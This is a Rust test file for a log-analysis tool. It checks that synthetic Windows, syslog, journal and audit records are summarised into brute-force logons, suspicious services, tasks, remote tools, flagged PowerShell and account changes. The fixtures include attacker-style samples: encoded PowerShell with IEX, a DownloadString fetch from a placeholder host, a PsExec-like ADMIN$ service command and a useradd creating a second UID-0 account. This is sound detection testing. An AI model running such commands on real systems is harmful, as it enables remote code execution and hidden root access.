use super::{Collector, Sums, remote};
use sigma::{Slate, Source};

const START: i64 = 1_790_000_000_000;

/// One event: seconds after the start, product, category, fields.
type Row<'a> = (i64, &'a str, &'a str, &'a [(&'a str, &'a str)]);

fn lay(slate: &mut Slate, (at, product, category, fields): &Row<'_>) {
    slate.clear();
    slate.at = START + at * 1_000;
    slate.set_sources(&[Source::new((*product).to_owned(), (*category).to_owned(), "")]);
    fields.iter().for_each(|(name, value)| slate.put_named(name, value));
}

fn summed(rows: &[Row<'_>]) -> Sums {
    let (mut slate, mut collector) = (Slate::default(), Collector::new());
    for row in rows {
        lay(&mut slate, row);
        collector.see(&slate);
    }
    collector.finish()
}

fn logon(at: i64, id: &'static str, user: &'static str, from: &'static str) -> [(&'static str, &'static str); 7] {
    let _ = at;
    [
        ("Channel", "Security"),
        ("EventID", id),
        ("Computer", "KAIKEI-PC"),
        ("TargetUserName", user),
        ("TargetDomainName", "KOMA"),
        ("IpAddress", from),
        ("LogonType", "10"),
    ]
}

#[test]
fn a_success_after_failures_from_outside_is_marked() {
    let mut events: Vec<(i64, [(&str, &str); 7])> = (0..6).map(|at| (at, logon(at, "4625", "tanaka", "203.0.113.9"))).collect();
    events.push((9, logon(9, "4624", "tanaka", "203.0.113.9")));
    events.push((10, logon(10, "4624", "sato", "192.168.1.5")));
    events.push((11, logon(11, "4624", "PC1$", "192.168.1.5")));
    events.push((12, logon(12, "4624", "SYSTEM", "-")));
    let rows: Vec<Row<'_>> = events.iter().map(|(at, fields)| (*at, "windows", "", &fields[..])).collect();
    let sums = summed(&rows);
    let told: Vec<String> = sums
        .logons
        .iter()
        .map(|one| {
            format!(
                "{} {} {} {:?} +{} -{} {} {}",
                one.host, one.account, one.address, one.kind, one.succeeded, one.failed, one.outside, one.guessed
            )
        })
        .collect();
    insta::assert_snapshot!(told.join("\n"), @r#"
        KAIKEI-PC KOMA\tanaka 203.0.113.9 Type(10) +1 -6 true true
        KAIKEI-PC KOMA\sato 192.168.1.5 Type(10) +1 -0 false false
        "#);
    assert_eq!(sums.seen.count, 10);
}

#[test]
fn services_tasks_and_tools_are_told_with_what_is_odd() {
    let xml = "<Task><Exec><Command>powershell.exe</Command><Arguments>-enc AAAA &amp; x</Arguments></Exec></Task>";
    let rows: [Row<'_>; 7] = [
        (
            0,
            "windows",
            "",
            &[
                ("Channel", "System"),
                ("EventID", "7045"),
                ("ServiceName", "Spooler2"),
                ("ImagePath", "C:\\Program Files\\x\\x.exe"),
                ("AccountName", "LocalSystem"),
            ],
        ),
        (
            1,
            "windows",
            "",
            &[
                ("Channel", "System"),
                ("EventID", "7045"),
                ("ServiceName", "qXzRtKwB"),
                ("ImagePath", "%COMSPEC% /c echo x > \\\\127.0.0.1\\ADMIN$\\o"),
                ("AccountName", "LocalSystem"),
            ],
        ),
        (
            2,
            "windows",
            "",
            &[
                ("Channel", "Security"),
                ("EventID", "4698"),
                ("TaskName", "\\Update"),
                ("TaskContent", xml),
                ("SubjectUserName", "sato"),
            ],
        ),
        (
            3,
            "windows",
            "process_creation",
            &[
                ("Channel", "Microsoft-Windows-Sysmon/Operational"),
                ("EventID", "1"),
                ("Image", "C:\\Users\\sato\\Downloads\\AnyDesk (1).exe"),
                ("User", "KOMA\\sato"),
            ],
        ),
        (
            4,
            "windows",
            "process_creation",
            &[("Channel", "Security"), ("EventID", "4688"), ("Image", "C:\\Windows\\notepad.exe")],
        ),
        (5, "windows", "", &[("Channel", "System"), ("EventID", "104"), ("SubjectUserName", "sato"), ("Channel", "Application")]),
        (6, "linux", "account_change", &[("Action", "account-created"), ("Account", "backdoor"), ("Hostname", "srv")]),
    ];
    let sums = summed(&rows);
    let services: Vec<_> = sums.services.iter().map(|(one, count)| (&one.name, &one.odd, count.count)).collect();
    insta::assert_debug_snapshot!(services, @r#"
        [
            (
                "qXzRtKwB",
                [
                    Shell,
                    Share,
                    Name,
                ],
                1,
            ),
            (
                "Spooler2",
                [],
                1,
            ),
        ]
        "#);
    let (task, _) = &sums.tasks[0];
    assert_eq!((task.command.as_str(), task.odd.len()), ("powershell.exe -enc AAAA & x", 2));
    let tools: Vec<_> = sums.remotes.iter().map(|(one, _)| (one.tool.as_str(), one.account.as_str())).collect();
    assert_eq!(tools, [("AnyDesk", "KOMA\\sato")]);
    let changes: Vec<_> = sums.changes.iter().map(|(one, _)| (one.what.word(), one.object.as_str(), one.host.as_str())).collect();
    assert_eq!(changes, [("log-cleared", "Application", ""), ("account-made", "backdoor", "srv")]);
}

#[test]
fn script_blocks_are_flagged_and_short_plain_ones_only_counted() {
    let encoded =
        format!("IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{}')))", "QWxsIHlvdXIgYmFzZQ".repeat(30));
    let hidden = "&(\"{1}{0}\" -f'x','y');".replace('x', "`i`e").repeat(40);
    let rows = ["prompt", encoded.as_str(), hidden.as_str(), "(New-Object Net.WebClient).DownloadString('http://x')"];
    let fields: Vec<[(&str, &str); 3]> = rows
        .iter()
        .map(|text| [("Channel", "Microsoft-Windows-PowerShell/Operational"), ("EventID", "4104"), ("ScriptBlockText", *text)])
        .collect();
    let rows: Vec<Row<'_>> = fields.iter().map(|fields| (0, "windows", "ps_script", &fields[..])).collect();
    let sums = summed(&rows);
    let flags: Vec<_> = sums.scripts.iter().map(|one| &one.flags).collect();
    insta::assert_debug_snapshot!(flags, @r#"
        [
            [
                Obfuscated,
            ],
            [
                Encoded,
            ],
            [
                Download,
            ],
        ]
        "#);
    assert_eq!((sums.blocks, sums.scripts.len()), (4, 3));
}

#[test]
fn two_threads_give_what_one_gives_and_memory_is_bounded() {
    let names: Vec<String> = (0..super::ENTRIES + 500).map(|number| format!("svc{number}")).collect();
    let (mut one, mut two, mut whole) = (Collector::new(), Collector::new(), Collector::new());
    let mut slates = [Slate::default(), Slate::default(), Slate::default()];
    for (number, name) in names.iter().enumerate() {
        let fields = [("Channel", "System"), ("EventID", "7045"), ("ServiceName", name.as_str()), ("ImagePath", "C:\\x.exe")];
        let row: Row<'_> = (number as i64, "windows", "", &fields);
        let half = number % 2;
        slates.iter_mut().for_each(|slate| lay(slate, &row));
        if half == 0 {
            one.see(&slates[0])
        } else {
            two.see(&slates[1])
        }
        whole.see(&slates[2]);
    }
    one.merge(two);
    let (both, whole) = (one.finish(), whole.finish());
    assert_eq!((both.services.len(), whole.services.len()), (super::ENTRIES, super::ENTRIES));
    assert_eq!((both.unlisted, whole.unlisted), (500, 500));
    assert_eq!(both.seen, whole.seen);
}

#[test]
fn the_list_of_tools_can_be_read() {
    let tools = remote::Tools::default();
    let of = |image: &str| tools.of(image);
    assert_eq!(of("C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe"), Some("TeamViewer"));
    assert_eq!(of("/usr/bin/rustdesk"), Some("RustDesk"));
    assert_eq!(
        (of("C:\\x\\client33.exe"), of("C:\\client32.EXE"), of("遠隔.exe"), of("")),
        (None, Some("NetSupport Manager"), None, None)
    );
}

/// Lines as programs of Debian, Ubuntu and RHEL write them to files, through all that a hunt does.
fn hunted(name: &str, lines: &[&str]) -> String {
    let dir = tempfile::tempdir().expect("a folder");
    let file = dir.path().join(name);
    std::fs::write(&file, lines.join("\n") + "\n").expect("written");
    let options =
        crate::Options { min_level: sigma::Level::Informational, now: base::Moment(START + 90 * base::Moment::DAY), east: 0 };
    let hunt = crate::Hunt::new(sigma::Rules::read([]).0.into(), options);
    let (summary, sums) = hunt.run_and_sums(&[file], &Default::default(), &mut |_| {});
    assert_eq!((summary.errors, summary.faults), (0, vec![]));
    let logon = |one: &super::Logon| {
        let super::LogonKind::Service(kind) = &one.kind else { panic!("{one:?}") };
        let from = if one.address.is_empty() { "-" } else { &one.address };
        let mark = if one.guessed { " guessed" } else { "" };
        format!("{} {} {from} {kind} +{} -{} out {}{mark}", one.host, one.account, one.succeeded, one.failed, one.ended)
    };
    let change = |(one, count): &(super::Change, crate::outcome::Count)| {
        format!("{} {} {} by={} detail={} {}", one.host, one.what.word(), one.object, one.by, one.detail, count.count)
    };
    let told: Vec<String> = sums.logons.iter().map(logon).chain(sums.changes.iter().map(change)).collect();
    told.join("\n")
}

#[test]
fn lines_of_syslog_come_to_sums() {
    let lines = [
        "Nov 23 03:00:01 srv sshd[700]: Failed password for ann from 203.0.113.9 port 4242 ssh2",
        "Nov 23 03:00:09 srv sshd[700]: message repeated 5 times: [ Failed password for ann from 203.0.113.9 port 4242 ssh2]",
        "Nov 23 03:00:10 srv sshd[700]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=ann",
        "Nov 23 03:00:11 srv sshd[700]: Failed password for invalid user admin from 203.0.113.9 port 4243 ssh2",
        "Nov 23 03:00:20 srv sshd[701]: Accepted password for ann from 203.0.113.9 port 4244 ssh2",
        "Nov 23 03:00:20 srv sshd[701]: pam_unix(sshd:session): session opened for user ann(uid=1000) by (uid=0)",
        "Nov 23 03:01:00 srv sudo[702]:      ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/sbin/useradd -o -u 0 back",
        "Nov 23 03:01:00 srv sudo: pam_unix(sudo:session): session opened for user root(uid=0) by ann(uid=1000)",
        "Nov 23 03:01:01 srv useradd[703]: new group: name=back, GID=1003",
        "Nov 23 03:01:01 srv useradd[703]: new user: name=back, UID=0, GID=1003, home=/home/back, shell=/bin/bash, from=/dev/pts/1",
        "Nov 23 03:01:02 srv usermod[704]: add 'bob' to group 'sudo'",
        "Nov 23 03:01:02 srv usermod[704]: add 'bob' to shadow group 'sudo'",
        "Nov 23 03:01:03 srv usermod[705]: change user 'www-data' shell from '/usr/sbin/nologin' to '/bin/bash'",
        "Nov 23 03:01:04 srv passwd[706]: pam_unix(passwd:chauthtok): password changed for bob",
        "Nov 23 03:01:05 srv chpasswd[707]: pam_unix(chpasswd:chauthtok): password changed for back",
        "Nov 23 03:01:06 srv userdel[708]: delete user 'old'",
        "Nov 23 03:01:07 srv gpasswd[709]: user carl added by root to group docker",
        "Nov 23 03:02:00 srv sudo:      bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/su",
        "Nov 23 03:02:01 srv sudo:      eve : user NOT in sudoers ; TTY=pts/2 ; PWD=/home/eve ; USER=root ; COMMAND=/bin/sh",
        "Nov 23 03:02:10 srv su[710]: FAILED SU (to root) eve on pts/2",
        "Nov 23 03:02:20 srv su[711]: (to root) bob on pts/1",
        "Nov 23 03:09:00 srv sshd[701]: Disconnected from user ann 203.0.113.9 port 4244",
    ];
    let told = hunted("auth.log", &lines);
    insta::assert_snapshot!(told, @"
        srv ann 203.0.113.9 sshd +1 -6 out 1 guessed
        srv admin 203.0.113.9 sshd +0 -1 out 0
        srv bob - sudo +0 -1 out 0
        srv eve - su +0 -1 out 0
        srv eve - sudo +0 -1 out 0
        srv ann - sudo +1 -0 out 0
        srv bob - su +1 -0 out 0
        srv account-made back by= detail=UID 0 1
        srv group-joined bob by= detail=sudo 1
        srv group-joined carl by= detail=docker 1
        srv password-reset bob by= detail= 1
        srv password-reset back by= detail= 1
        srv account-changed www-data by= detail=/bin/bash 1
        srv account-deleted old by= detail= 1
        ");
}

#[test]
fn entries_of_the_journal_come_to_sums() {
    let lines = [
        r#"{"__REALTIME_TIMESTAMP":"1790000001000000","_HOSTNAME":"srv","SYSLOG_IDENTIFIER":"sshd-session","_PID":"7","MESSAGE":"Failed password for root from 203.0.113.9 port 4242 ssh2"}"#,
        r#"{"__REALTIME_TIMESTAMP":"1790000002000000","_HOSTNAME":"srv","SYSLOG_IDENTIFIER":"sshd","_PID":"7","MESSAGE":"Accepted publickey for ann from 192.168.1.5 port 4242 ssh2: ED25519 SHA256:x"}"#,
        r#"{"__REALTIME_TIMESTAMP":"1790000003000000","_HOSTNAME":"srv","SYSLOG_IDENTIFIER":"useradd","_PID":"8","MESSAGE":"new user: name=back, UID=1004, GID=1004, home=/home/back, shell=/bin/sh, from=none"}"#,
        r#"{"__REALTIME_TIMESTAMP":"1790000004000000","_HOSTNAME":"srv","SYSLOG_IDENTIFIER":"sudo","_PID":"9","MESSAGE":"     ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls"}"#,
        r#"{"__REALTIME_TIMESTAMP":"1790000005000000","_HOSTNAME":"srv","SYSLOG_IDENTIFIER":"systemd","_PID":"1","MESSAGE":"Started ssh.service - OpenBSD Secure Shell server."}"#,
    ];
    let told = hunted("journal.json", &lines);
    insta::assert_snapshot!(told, @"
        srv root 203.0.113.9 sshd +0 -1 out 0
        srv ann - sudo +1 -0 out 0
        srv ann 192.168.1.5 sshd +1 -0 out 0
        srv account-made back by= detail= 1
        ");
}

#[test]
fn records_of_the_audit_system_come_to_sums() {
    let record = |kind: &str, serial: u32, rest: &str| format!("type={kind} msg=audit(1790000000.965:{serial}): {rest}");
    let ann = "pid=9 uid=0 auid=1000 ses=3 subj=unconfined_u:unconfined_r:unconfined_t:s0";
    let unset = "pid=9 uid=0 auid=4294967295 ses=4294967295";
    let end = "hostname=? addr=? terminal=pts/0 res=success'";
    let lines = [
        record(
            "USER_LOGIN",
            1,
            &format!(
                r#"{unset} msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=ssh res=failed'"#
            ),
        ),
        // A name with letters that are written as hexadecimal digits.
        record(
            "USER_LOGIN",
            2,
            &format!(
                "{unset} msg='op=login acct=28756E6B6E6F776E207573657229 exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.9 terminal=ssh res=failed'"
            ),
        ),
        record(
            "USER_LOGIN",
            3,
            &format!(
                "{ann} msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=192.168.1.5 addr=192.168.1.5 terminal=/dev/pts/0 res=success'\u{1d}UID=\"root\" AUID=\"ann\" ID=\"ann\""
            ),
        ),
        record("USER_LOGIN", 4, &format!("{ann} msg='op=login id=1000 exe=\"/usr/bin/login\" {end}")),
        record("USER_AUTH", 5, &format!("{ann} msg='op=PAM:authentication acct=\"ann\" exe=\"/usr/bin/sudo\" {end}")),
        record(
            "ADD_USER",
            6,
            &format!("{ann} msg='op=add-user acct=\"back\" exe=\"/usr/sbin/useradd\" {end}\u{1d}UID=\"root\" AUID=\"ann\""),
        ),
        record(
            "ADD_USER",
            7,
            &format!("{ann} msg='op=add-user acct=\"no\" exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=pts/0 res=failed'"),
        ),
        record(
            "USER_MGMT",
            8,
            &format!("{ann} msg='op=add-user-to-group grp=\"wheel\" acct=\"back\" exe=\"/usr/sbin/usermod\" {end}"),
        ),
        record(
            "USER_MGMT",
            9,
            &format!("{ann} msg='op=delete-user-from-group grp=\"wheel\" acct=\"back\" exe=\"/usr/bin/gpasswd\" {end}"),
        ),
        record(
            "USER_CHAUTHTOK",
            10,
            &format!("{unset} msg='op=PAM:chauthtok grantors=pam_unix acct=\"back\" exe=\"/usr/bin/passwd\" {end}"),
        ),
        format!(
            "node=db1 {}",
            record("DEL_USER", 11, &format!("{ann} msg='op=delete-user acct=\"old\" exe=\"/usr/sbin/userdel\" {end}"))
        ),
        record("SERVICE_START", 12, "pid=1 uid=0 auid=4294967295 msg='unit=sshd comm=\"systemd\" res=success'"),
    ];
    let told = hunted("audit.log", &lines.iter().map(String::as_str).collect::<Vec<_>>());
    insta::assert_snapshot!(told, @"
         (unknown user) 203.0.113.9 auditd +0 -1 out 0
         root 203.0.113.9 auditd +0 -1 out 0
         UID 1000 - auditd +1 -0 out 0
         ann 192.168.1.5 auditd +1 -0 out 0
         account-made back by=ann detail= 1
         group-joined back by=UID 1000 detail=wheel 1
         password-reset back by= detail= 1
        db1 account-deleted old by=UID 1000 detail= 1
        ");
}
